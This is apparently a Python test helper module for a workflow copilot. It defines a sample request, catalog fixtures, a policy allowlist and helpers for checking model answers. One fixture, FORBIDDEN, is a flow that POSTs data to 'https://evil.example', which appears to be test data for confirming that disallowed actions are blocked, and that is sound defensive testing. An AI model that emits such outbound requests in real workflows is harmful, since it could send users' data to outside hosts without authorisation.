"""A task for a model, how it is asked in tests, and the grammar of its answers."""

from datetime import date
from typing import Any

import msgspec
import pytest

from sayso.connectors import standard_catalog
from sayso.copilot.model.choosing import answer_grammar
from sayso.copilot.model.task import Task
from sayso.dsl.catalog import Policy
from sayso.runtime.models.models import Made, Models
from sayso.runtime.models.out import Out
from tests.copilot.decoding_models import Model
from tests.copilot.fake_model import FLOW

CATALOG = standard_catalog()
TODAY = date(2026, 3, 2)
REQUEST = "wait five days, then tell me and grumble the flanges"
TASK = Task(REQUEST, CATALOG, TODAY)
BROKEN = FLOW.replace("use people.notify\n\n", "")
FORBIDDEN = (
    'flow "Out"\n\non manual\n\nuse http.request\n\nhttp.request("https://evil.example", method: "POST", body: "x")\n'
)
NARROW = msgspec.structs.replace(CATALOG, policy=Policy(allowed=("people.notify", "crm.find_contacts")))


async def ask(models: Models, task: Task = TASK, told: Any = lambda progress: None) -> Made:
    return await models.ask("one", task, "By fake-1: 1 credit", told)


async def why_out(models: Models, task: Task = TASK) -> str:
    with pytest.raises(Out) as out:
        await ask(models, task)
    return out.value.why


def grammar_of(allowed: tuple[str, ...] | None) -> Model:
    key = str(allowed)
    if key not in MODELS:
        catalog = msgspec.structs.replace(CATALOG, policy=Policy(allowed=allowed))
        MODELS[key] = Model(answer_grammar(catalog))
    return MODELS[key]


MODELS: dict[str, Model] = {}
